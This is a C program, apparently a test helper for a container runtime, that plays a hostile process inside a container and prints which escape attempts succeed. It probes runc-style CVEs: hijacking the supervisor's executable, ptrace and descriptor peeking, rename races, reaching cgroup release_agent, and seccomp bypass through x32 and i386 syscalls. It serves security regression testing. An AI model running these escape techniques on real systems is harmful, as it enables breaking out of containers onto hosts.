/*
 * What a hostile program in a container tries, one line of report for each success or answer; the tests compare.
 *
 *     attack hunt | look FILE | swap A B | cgroups | sockets FAMILY_HEX…
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define RENAME_BOTH 2 /* RENAME_EXCHANGE; linux/fs.h */
#define X32 0x40000000

static const char *answer(long result)
{
	return result >= 0 ? "ok" : strerrorname_np(errno);
}

/* An executable that is none of the container's own is the supervisor's (CVE-2019-5736). */
static int is_foreign(const struct stat *seen)
{
	static const char *const own[] = { "/bin/busybox", "/bin/attack", "/bin/probe" };
	struct stat status;
	for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
		if (stat(own[i], &status) == 0 && status.st_dev == seen->st_dev && status.st_ino == seen->st_ino)
			return 0;
	return 1;
}

/*
 * Holds the executable and asks for it once more, to write, until its process is gone. What is written is what is there:
 * a sealed file is opened for writing once nobody runs it, and refuses the write.
 */
static void take_executable(const char *pid)
{
	char path[300];
	struct stat status;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &status) == 0 && is_foreign(&status)) {
		printf("foreign executable of %s\n", pid);
		char again[64];
		snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
		int writable = open(again, O_RDWR | O_CLOEXEC);
		for (int i = 0; writable < 0 && errno == ETXTBSY && i < 100000; i++)
			writable = open(again, O_RDWR | O_CLOEXEC);
		printf("reopened for writing: %s\n", answer(writable));
		char first;
		if (writable >= 0) {
			if (pread(writable, &first, 1, 0) == 1)
				printf("written: %s\n", answer(pwrite(writable, &first, 1, 0)));
			close(writable);
		}
	}
	close(fd);
}

/* Descriptors past stdio, with where they lead: the links of what may not be traced cannot be read. */
static void list_descriptors(const char *pid)
{
	char path[300];
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *folder = opendir(path);
	if (!folder)
		return;
	for (struct dirent *entry; (entry = readdir(folder));) {
		char target[256];
		if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3)
			continue;
		ssize_t size = readlinkat(dirfd(folder), entry->d_name, target, sizeof(target) - 1);
		if (size >= 0)
			printf("descriptor %s of %s: %.*s\n", entry->d_name, pid, (int)size, target);
	}
	closedir(folder);
}

/*
 * Attaching and then looking at whom: an attach that comes during execve waits until the new program is installed,
 * so that an event of execve would prove nothing.
 */
static void trace(const char *pid)
{
	char path[300];
	struct stat status;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) != 0)
		return;
	if (stat(path, &status) == 0 && is_foreign(&status))
		printf("traced before execve: %s\n", pid);
	(void)ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
}

/* Lets go of what has stopped, and of zombies. */
static void let_go(void)
{
	int status;
	for (pid_t pid; (pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0;)
		if (WIFSTOPPED(status))
			(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/*
 * As pid 1: attaches to, looks into and takes the executable of whatever joins, again and again while it lives
 * (CVE-2016-9962, CVE-2019-5736). The window is short, so each process is tried in one way only.
 */
_Noreturn static void hunt(void)
{
	printf("ready\n");
	while (1) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(processes));) {
			int pid = atoi(entry->d_name);
			if (pid <= 1)
				continue;
			if (pid % 3 == 0)
				trace(entry->d_name);
			else if (pid % 3 == 1)
				list_descriptors(entry->d_name);
			else
				take_executable(entry->d_name);
		}
		closedir(processes);
		let_go();
	}
}

/* Sees the files of others as they do, which CAP_SYS_PTRACE allows also where they are not dumpable. */
_Noreturn static void look(const char *file)
{
	printf("ready\n");
	while (1) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(processes));) {
			char path[PATH_MAX];
			struct stat status;
			int pid = atoi(entry->d_name);
			if (pid <= 1)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (stat(path, &status) != 0 || !is_foreign(&status))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/root%s", pid, file);
			int outside = access(path, F_OK) == 0;
			for (int fd = 3; fd < 32; fd++) {
				snprintf(path, sizeof(path), "/proc/%d/fd/%d/../../../../../../../..%s", pid, fd, file);
				outside |= access(path, F_OK) == 0;
			}
			printf("before execve: %d%s\n", pid, outside ? ", on the host" : "");
		}
		closedir(processes);
	}
}

/* Two names exchanged as fast as the kernel can (CVE-2021-30465, CVE-2024-45310). */
static int swap(const char *first, const char *second)
{
	for (long count = 0;; count++) {
		if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, RENAME_BOTH) != 0 && errno != ENOENT) {
			printf("swap %s\n", strerrorname_np(errno));
			return 1;
		}
		if (count == 0)
			printf("ready\n");
	}
}

/* CVE-2022-0492. What is opened is not written to. */
static void mount_cgroup(int flags, const char *controllers)
{
	if (fork() == 0) {
		if (flags != 0)
			printf("unshare %x %s\n", flags, answer(unshare(flags)));
		mkdir("/tmp/cg", 0755);
		printf("mount %s %s\n", controllers, answer(mount("cgroup", "/tmp/cg", "cgroup", 0, controllers)));
		printf("release_agent %s\n", answer(open("/tmp/cg/release_agent", O_WRONLY | O_CLOEXEC)));
		umount2("/tmp/cg", MNT_DETACH);
		fflush(stdout);
		_exit(0);
	}
	wait(NULL);
}

static int cgroups(void)
{
	static const int flags[] = { 0, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, CLONE_NEWNS, CLONE_NEWCGROUP };
	static const char *const hierarchies[] = { "memory", "pids", "none,name=systemd", "rdma" };
	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++)
		for (size_t j = 0; j < sizeof(hierarchies) / sizeof(hierarchies[0]); j++)
			mount_cgroup(flags[i], hierarchies[j]);
	return 0;
}

#ifdef __x86_64__
/* The same call by the doors of 32-bit programs: socket is 359 there, and 1 of socketcall (102). */
static long socket_of_i386(unsigned family)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(359L), "b"((long)family), "c"(1L), "d"(0L) : "r8", "r9", "r10", "r11", "memory");
	return result;
}
#endif

/* Families with all the 64 bits of the register, of which the kernel reads 32 (libseccomp #383). */
static int sockets(char **families)
{
	for (; *families; families++) {
		unsigned long family = strtoul(*families, NULL, 16);
		printf("socket %s %s\n", *families, answer(syscall(SYS_socket, family, 1UL, 0UL)));
#ifdef __x86_64__
		printf("x32 %s %s\n", *families, answer(syscall(SYS_socket | X32, family, 1UL, 0UL)));
		fflush(stdout);
		int status;
		if (fork() == 0) {
			long result = socket_of_i386((unsigned)family);
			errno = result < 0 ? (int)-result : 0;
			printf("i386 %s %s\n", *families, answer(result));
			fflush(stdout);
			_exit(0);
		}
		wait(&status);
		if (WIFSIGNALED(status))
			printf("i386 %s killed\n", *families);
#endif
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(what, "hunt"))
		hunt();
	if (!strcmp(what, "look") && argc == 3)
		look(argv[2]);
	if (!strcmp(what, "swap") && argc == 4)
		return swap(argv[2], argv[3]);
	if (!strcmp(what, "cgroups"))
		return cgroups();
	if (!strcmp(what, "sockets"))
		return sockets(argv + 2);
	fprintf(stderr, "attack: what is %s?\n", what);
	return 2;
}
